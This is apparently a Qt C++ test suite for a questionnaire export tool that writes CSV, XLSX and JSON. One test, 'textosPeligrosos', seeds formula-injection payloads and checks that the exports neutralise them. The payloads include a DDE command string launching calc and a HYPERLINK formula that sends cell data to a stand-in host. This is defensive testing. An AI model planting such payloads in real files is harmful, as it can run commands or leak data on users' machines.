#include "FixturasHost.h"
#include "ProcesoHerramienta.h"

#include "questionnaire/LibroDetalle.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QtTest>

using namespace ProcesoHerramienta;

// The tool's detail files and JSON document on the main fixture, whose answers are worked out
// by hand in TestRespuestas.
class TestSalidas : public QObject
{
    Q_OBJECT
    QTemporaryDir tmp;
    QString carpeta(const QString& s) const { return tmp.filePath(s); }
    QStringList login() const { return {carpeta("host"), "--usuario", "ADMIN", "--password", "CLAVE1"}; }

private slots:
    void initTestCase()
    {
        QVERIFY(tmp.isValid());
        QVERIFY(FixturasHost::EscribePrincipal(carpeta("host"), 30));
    }

    void detalle_data()
    {
        QTest::addColumn<QStringList>("opciones");
        QTest::addColumn<QString>("entorno");
        QTest::addColumn<QString>("separador");
        QTest::addColumn<QString>("importeC23"); // 19.25 x 10.5
        QTest::newRow("punto y coma, coma decimal") << QStringList{"--separador", ";"} << ""
                                                    << ";"
                                                    << "202,125";
        QTest::newRow("coma, punto decimal") << QStringList{"--coma"} << ""
                                             << ","
                                             << "202.125";
        QTest::newRow("tabulador") << QStringList{"--separador", "\t"} << ""
                                   << "\t"
                                   << "202,125";
        // As the system reads them: Mexican Spanish keeps the decimal point and separates with
        // commas; Spain's uses the decimal comma and separates with semicolons.
        QTest::newRow("español de México") << QStringList() << "LC_ALL=es_MX.UTF-8"
                                           << ","
                                           << "202.125";
        QTest::newRow("español de España") << QStringList() << "LC_ALL=es_ES.UTF-8"
                                           << ";"
                                           << "202,125";
    }
    void detalle()
    {
        QFETCH(QStringList, opciones);
        QFETCH(QString, entorno);
        QFETCH(QString, separador);
        QFETCH(QString, importeC23);
#ifdef Q_OS_WIN
        if (!entorno.isEmpty())
            QSKIP("Windows toma el separador de listas y el decimal de su configuración regional, no de "
                  "LC_ALL");
#endif
        const QString sDir = carpeta("detalle_" + QString(QTest::currentDataTag()).replace(' ', '_'));
        const TSalida s = Corre(login() + QStringList{"--pep", "C01", "--detalle", sDir} + opciones,
                                entorno.isEmpty() ? QStringList() : QStringList{entorno});
        QVERIFY2(s.nCodigo == 0, qPrintable(s.sError));
        const QMap<QString, QString> v = Variables(s.sSalida);
        const QChar c = separador[0];

        // The index: one line per computed answer, its answer as printed and its file's row count.
        const QList<QStringList> Indice = LeeCsv(sDir + "/indice.csv", c);
        QCOMPARE(Indice.value(0),
                 (QStringList{"Pregunta", "Variable", "Descripción", "Respuesta", "Filas", "Archivo"}));
        QCOMPARE(Indice.size(), 1 + 4 + 10 + 12 + 3); // 9, 10, 22, 23; 30 to 39; 42, 43; 44 to 46
        static const QRegularExpression reNumero("^-?\\d+\\.\\d+$");
        for (const QStringList& l : Indice.mid(1)) {
            QCOMPARE(l.size(), 6);
            // Answers as printed; numbers with the files' decimal mark.
            QString sEsperada = QString(v.value(l[1])).replace("\r\n", " | ");
            if (reNumero.match(sEsperada).hasMatch())
                sEsperada.replace('.', importeC23.contains(',') ? ',' : '.');
            QCOMPARE(l[3], sEsperada);
            QCOMPARE(LeeCsv(sDir + '/' + l[5], c).size() - 1, l[4].toInt());
        }
        // Counts are their rows: 7 natural nationals; one ticked PEP, C01, marked in its row.
        const QList<QStringList> Nacionales = LeeCsv(sDir + "/preg_32.csv", c);
        QCOMPARE(Nacionales.size() - 1, 7);
        const QList<QStringList> Peps = LeeCsv(sDir + "/preg_37.csv", c);
        QCOMPARE(Peps.size(), 2);
        QCOMPARE(Peps[1].value(0), QString("C01"));
        QCOMPARE(Peps[1].value(7), QString("SI"));
        // Amounts in the separator's decimal form; dates day first.
        bool bC23 = false;
        for (const QStringList& f : LeeCsv(sDir + "/preg_42_2.csv", c))
            if (f.value(9) == "C23") {
                bC23 = true;
                QCOMPARE(f.value(8), importeC23);
                QCOMPARE(f.value(2), QString("01/01/2018"));
            }
        QVERIFY(bC23);
    }

    // The same details as one workbook: an index sheet and a sheet per answer with its rows.
    void libro()
    {
        if (QStandardPaths::findExecutable("unzip").isEmpty())
            QSKIP("falta unzip para leer el libro");
        const QString sDir = carpeta("libro");
        const TSalida s = Corre(login() + QStringList{"--detalle", sDir, "--separador", ";"});
        QVERIFY2(s.nCodigo == 0, qPrintable(s.sError));
        const auto parte = [&](const QString& sParte) {
            QProcess p;
            p.start("unzip", {"-p", sDir + "/detalle.xlsx", sParte});
            p.waitForFinished();
            return QString::fromUtf8(p.readAllStandardOutput());
        };
        static const QRegularExpression reHoja("<sheet name=\"([^\"]+)\"");
        QStringList Hojas;
        for (auto it = reHoja.globalMatch(parte("xl/workbook.xml")); it.hasNext();)
            Hojas << it.next().captured(1);
        QStringList Esperadas{"Indice"};
        for (const QStringList& l : LeeCsv(sDir + "/indice.csv").mid(1))
            Esperadas << QFileInfo(l[5]).completeBaseName();
        QCOMPARE(Hojas, Esperadas);
        // preg_32, the seventh answer: a header and seven natural nationals over ten columns.
        QCOMPARE(Hojas[7], QString("preg_32"));
        const QString sHoja = parte("xl/worksheets/sheet8.xml");
        QCOMPARE(sHoja.count("<row "), 8);
        QVERIFY(sHoja.contains("<c r=\"J1\"") && !sHoja.contains("<c r=\"K") &&
                !sHoja.contains("<row r=\"9\""));
    }

    // Never into the host's database folder, whatever its spelling; nothing is created there.
    void detalleNuncaEnLaCarpetaDeLaBase_data()
    {
        QTest::addColumn<QString>("destino");
        QTest::newRow("la carpeta") << "host/DataBase";
        QTest::newRow("otras mayusculas") << "host/DATABASE";
        QTest::newRow("una subcarpeta") << "host/database/detalle";
        QTest::newRow("con puntos") << "host/otra/../DataBase";
    }
    void detalleNuncaEnLaCarpetaDeLaBase()
    {
        QFETCH(QString, destino);
        const QStringList antes =
            QDir(carpeta("host/DataBase")).entryList(QDir::AllEntries | QDir::NoDotAndDotDot);
        const TSalida s = Corre(login() + QStringList{"--detalle", carpeta(destino)});
        QCOMPARE(s.nCodigo, 1);
        QVERIFY2(s.sError.contains("es la carpeta de la base de datos del Tavoro"), qPrintable(s.sError));
        QCOMPARE(QDir(carpeta("host/DataBase")).entryList(QDir::AllEntries | QDir::NoDotAndDotDot), antes);
    }

    // Texts of the database that a spreadsheet would run as formulas show as texts in every
    // detail file; the workbook holds them as texts; the line output keeps a line a variable.
    void textosPeligrosos()
    {
        FixturasHost::TOpciones Op;
        Op.ClavesExtra = {"X1", "X2", "X3", "X4", "-5", "X6"};
        Op.NombresExtra = {"=HYPERLINK(\"http://x.example/\"&A1,\"clic\")",
                           "=cmd|' /C calc'!A0",
                           "+SUMA(1;2)",
                           "@AHORA()",
                           "\tTABULADO",
                           "JUAN\npreg_37\t999\\fin"};
        QVERIFY(FixturasHost::EscribePrincipal(carpeta("peligrosa"), 30, Op));
        const QString sDir = carpeta("detalle_peligroso");
        const TSalida s = Corre({carpeta("peligrosa"), "--usuario", "ADMIN", "--password", "CLAVE1", "--pep",
                                 "X1", "--detalle", sDir, "--separador", ";"});
        QVERIFY2(s.nCodigo == 0, qPrintable(s.sError));

        // One line, one variable: the name with a line feed and a tab forges no line.
        QVERIFY(s.sSalida.contains("PEP\tX6\tJUAN\\npreg_37\\t999\\\\fin\n"));
        for (const QString& l : s.sSalida.split('\n'))
            QVERIFY2(l != "preg_37\t999" && !l.startsWith("preg_37\t999"), qPrintable(l));
        QCOMPARE(Variables(s.sSalida).value("preg_37"), QString("1")); // X1, the one ticked

        // Every field of every file: a text never begins as a formula.
        int nNombres = 0;
        for (const QString& sArchivo : QDir(sDir).entryList({"*.csv"}))
            for (const QStringList& Fila : LeeCsv(sDir + '/' + sArchivo))
                for (const QString& c : Fila) {
                    bool bNumero = false;
                    QString(c).replace(',', '.').toDouble(&bNumero);
                    QVERIFY2(bNumero || c.isEmpty() || !QString("=+-@\t\r").contains(c[0]),
                             qPrintable(sArchivo + ": " + c));
                    nNombres += Op.NombresExtra.contains(c.mid(1)) && c.startsWith('\'') ? 1 : 0;
                }
        QVERIFY(nNombres >= 6);
        const QList<QStringList> Fisicas = LeeCsv(sDir + "/preg_32.csv");
        bool bClave = false;
        for (const QStringList& f : Fisicas)
            if (f.value(0) == "'-5") {
                bClave = true;
                QCOMPARE(f.value(1), QString("'\tTABULADO"));
            }
        QVERIFY(bClave);

        if (QStandardPaths::findExecutable("unzip").isEmpty())
            return;
        QProcess p;
        p.start("unzip", {"-p", sDir + "/detalle.xlsx"});
        QVERIFY(p.waitForFinished());
        const QByteArray Libro = p.readAllStandardOutput();
        QVERIFY(Libro.contains("=cmd|&apos; /C calc&apos;!A0") || Libro.contains("=cmd|' /C calc'!A0"));
        QVERIFY(!Libro.contains("<f>"));
    }

    // A folder name whose bytes are not UTF-8 (Latin-1 on a Linux disk) is refused with its bytes
    // shown, not reported as another, missing folder.
    void nombreNoUtf8()
    {
#ifdef Q_OS_WIN
        QSKIP("Windows pasa los argumentos como texto");
#else
        QProcess p;
        p.start("/bin/sh", {"-c", "exec \"$0\" \"$(printf 'lat\\351n')\" --usuario ADMIN --password X",
                            QStringLiteral(QRTZ_CUESTIONARIO)});
        QVERIFY(p.waitForFinished());
        QCOMPARE(p.exitCode(), 2);
        const QString sError = QString::fromUtf8(p.readAllStandardError());
        QVERIFY2(sError.contains("\"lat\\xE9n\"") && sError.contains("UTF-8"), qPrintable(sError));
#endif
    }

    void json()
    {
        const TSalida s = Corre(login() + QStringList{"--pep", "C01", "--pep", "O'15", "--json"});
        QVERIFY2(s.nCodigo == 0, qPrintable(s.sError));
        QJsonParseError e;
        const QJsonObject o = QJsonDocument::fromJson(s.sSalida.toUtf8(), &e).object();
        QVERIFY2(e.error == QJsonParseError::NoError, qPrintable(e.errorString()));
        QCOMPARE(QStringList(o.keys()),
                 (QStringList{"carpeta", "orden", "peps", "tiempos_ms", "total_ms", "variables"}));
        const QJsonObject v = o["variables"].toObject();
        QCOMPARE(o["orden"].toArray().size(), 2 + 45 + 12);
        QCOMPARE(o["orden"].toArray().first().toString(), QString("NombreCC"));
        QCOMPARE(v["NombreCC"].toString(), QString("CAMBIOS DE PRUEBA, S.A. DE C.V."));
        QCOMPARE(v["preg_37"].toString(), QString("2"));
        QCOMPARE(v["preg_42_2"].toString(), QString("53892.12"));
        QVERIFY(v["preg_10"].toString().startsWith("BAJA CALIFORNIA\r\nCALIFORNIA\r\n"));
        QCOMPARE(o["tiempos_ms"].toObject().size(), 2 + 45 + 12);
        int nMarcados = 0;
        for (const QJsonValue p : o["peps"].toArray()) {
            QVERIFY(!p["nombre"].toString().isEmpty());
            nMarcados += p["marcado"].toBool() ? 1 : 0;
        }
        QCOMPARE(o["peps"].toArray().size(), 6);
        QCOMPARE(nMarcados, 2);
        QVERIFY(!s.sSalida.contains("\npreg_"));
    }
};

QTEST_GUILESS_MAIN(TestSalidas)
#include "TestSalidas.moc"
